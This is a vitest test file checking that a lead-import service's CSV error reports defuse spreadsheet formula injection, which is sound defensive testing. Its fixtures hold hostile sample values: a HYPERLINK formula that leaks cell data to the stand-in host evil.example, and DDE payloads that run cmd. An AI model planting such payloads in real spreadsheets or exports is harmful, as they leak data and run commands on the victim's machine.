import { describe, expect, it } from "vitest";
import { execFile } from "node:child_process";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { seedAccount } from "@leadline/db";
import { useApiServer } from "../support/api-server.ts";
import { useTestDatabase } from "../support/database.ts";
import { uploadImport, waitForImportEnd } from "../support/imports.ts";
import { useBackgroundWorker } from "../support/worker-process.ts";

const repoRoot = fileURLToPath(new URL("../../", import.meta.url));
const script = path.join(repoRoot, "scripts/src/import-csv.ts");

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const DDE = "-2+3+cmd|' /C calc'!A0";
const NOT_INTERNATIONAL =
  "phoneNumber must be in international format starting with + and a country code, e.g. +15555551234";
const NOT_E164 = "phoneNumber must be a valid E.164 phone number";

/**
 * Formulas in a bad phone, a name, a note and a column name; one good row
 * and its duplicate; a bad phone that starts with "+" but is only digits.
 */
const CSV = [
  "phone,name,@note",
  `"${HYPERLINK.replaceAll('"', '""')}",Ann,a`,
  "+12125550100,Bob,b",
  `not-a-phone,${SUM},c`,
  `12345,Cy,${DDE}`,
  "+1 212 555 0100,Dee,d",
  "+1555,Eve,e",
].join("\n");

/** The rejected rows as the job's report and the script's --async download write them: formulas behind a quote. */
const REPORT = [
  "line,error,phone,name,'@note",
  `2,"${NOT_INTERNATIONAL}","'${HYPERLINK.replaceAll('"', '""')}",Ann,a`,
  `4,"${NOT_INTERNATIONAL}",not-a-phone,'${SUM},c`,
  `5,"${NOT_INTERNATIONAL}",12345,Cy,'${DDE}`,
  `7,${NOT_E164},+1555,Eve,e`,
  "",
].join("\r\n");

function importCsv(args: string[], apiKey: string): Promise<{ code: number; stderr: string }> {
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      ["--import", "tsx", script, ...args],
      { cwd: repoRoot, env: { ...process.env, LEADLINE_API_KEY: apiKey } },
      (error, _stdout, stderr) => resolve({ code: error ? Number(error.code ?? 1) : 0, stderr }),
    );
  });
}

function csvFile(): string {
  const file = path.join(mkdtempSync(path.join(tmpdir(), "leadline-formulas-")), "leads.csv");
  writeFileSync(file, CSV);
  return file;
}

describe("issue 21: error reports neutralise spreadsheet formulas", () => {
  const db = useTestDatabase("issue21_formula_reports");
  const server = useApiServer(db);
  useBackgroundWorker(db);

  it("GET /imports/{id}/errors prefixes =, @ and - cells with a quote, keeping line, message and phones as they were", async () => {
    const { apiKey, campaignId } = await seedAccount(db.repos);
    const upload = await uploadImport(server.url, apiKey, campaignId, CSV);
    expect(upload.status).toBe(202);
    const view = await waitForImportEnd(server.url, apiKey, upload.body.data.id);
    expect(view).toMatchObject({ state: "completed", created: 1, skipped: 1, invalid: 4 });
    const response = await fetch(`${server.url}/api/v1/imports/${upload.body.data.id}/errors`, {
      headers: { "x-api-key": apiKey },
    });
    expect(response.status).toBe(200);
    expect(await response.text()).toBe(REPORT);
  });

  it("pnpm import:csv writes .invalid.csv and .skipped.csv readably, and its --async .errors.csv neutralised", async () => {
    const { apiKey, campaignId } = await seedAccount(db.repos);
    const file = csvFile();
    const common = ["--file", file, "--campaign", campaignId, "--url", server.url];
    const direct = await importCsv(common, apiKey);
    expect(direct.code).toBe(0);
    expect(readFileSync(`${file}.invalid.csv`, "utf8")).toBe(
      ["line,problem", ...[2, 4, 5].map((line) => `${line},"${NOT_INTERNATIONAL}"`), `7,${NOT_E164}`, ""].join("\n"),
    );
    // E.164 phones start with "+" but are plain numbers to a spreadsheet, so they are left unquoted.
    expect(readFileSync(`${file}.skipped.csv`, "utf8")).toBe("line,phoneNumber,reason\n6,+12125550100,duplicate\n");

    const other = await seedAccount(db.repos);
    const queued = await importCsv(
      ["--async", ...common.map((arg) => (arg === campaignId ? other.campaignId : arg)), "--poll-interval", "100"],
      other.apiKey,
    );
    expect(queued.code).toBe(0);
    expect(readFileSync(`${file}.errors.csv`, "utf8")).toBe(REPORT);
  });
});
